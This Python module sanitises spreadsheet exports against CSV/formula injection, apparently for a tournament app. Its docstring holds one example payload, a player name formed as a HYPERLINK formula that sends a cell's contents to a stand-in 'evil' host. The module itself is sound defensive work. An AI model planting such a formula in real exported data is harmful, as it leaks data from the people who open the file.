"""Spreadsheet cells that stay text: no formula ever comes from a name ("CSV injection").

A spreadsheet opening a CSV or XLSX file treats a cell that starts with
``=``, ``+``, ``-`` or ``@`` as a formula, and Excel and LibreOffice also one
that starts with a tab or a carriage return; Excel with a Japanese or Chinese
input setting also takes the full-width forms ``＝ ＋ － ＠``. A player named
``=HYPERLINK("http://evil…"&B2)`` would otherwise run on the director's
laptop. Every export path (standings CSV, XLSX and the EMA CSV, staff and
public) passes its cells through :func:`safe_row`.

The rule is OWASP's: a *text* cell that starts with one of those characters
gets a single quote in front (``'=HYPERLINK(…``), which spreadsheets show as
text. Numbers are left alone, so a score of -25 or -4.5 stays a number that
adds up; a name that merely looks like a number ("-1") is text and gets the
quote. In XLSX the quoted text is a plain string cell (openpyxl only makes a
formula of a string that starts with ``=``), and characters that XML 1.0
cannot hold are replaced by U+FFFD so a stray control character in an old
name never turns the download into a server error.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
QUOTE = "'"
# Characters XML 1.0 (and so XLSX) cannot hold: C0 controls other than tab, LF and CR.
NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_text(text: str) -> str:
    """``text``, with a quote in front when a spreadsheet would read it as a formula."""
    return QUOTE + text if text.startswith(FORMULA_STARTS) else text


def safe_cell(value):
    """A text cell made safe; any other value (a number, None) as it is."""
    return safe_text(value) if isinstance(value, str) else value


def safe_row(cells: Iterable) -> list:
    """Every cell of a row (or a header row) through :func:`safe_cell`."""
    return [safe_cell(cell) for cell in cells]


def safe_xlsx_row(cells: Iterable) -> list:
    """:func:`safe_row`, and text an XLSX file can hold."""
    return [
        NOT_IN_XML.sub("\ufffd", cell) if isinstance(cell, str) else cell
        for cell in safe_row(cells)
    ]
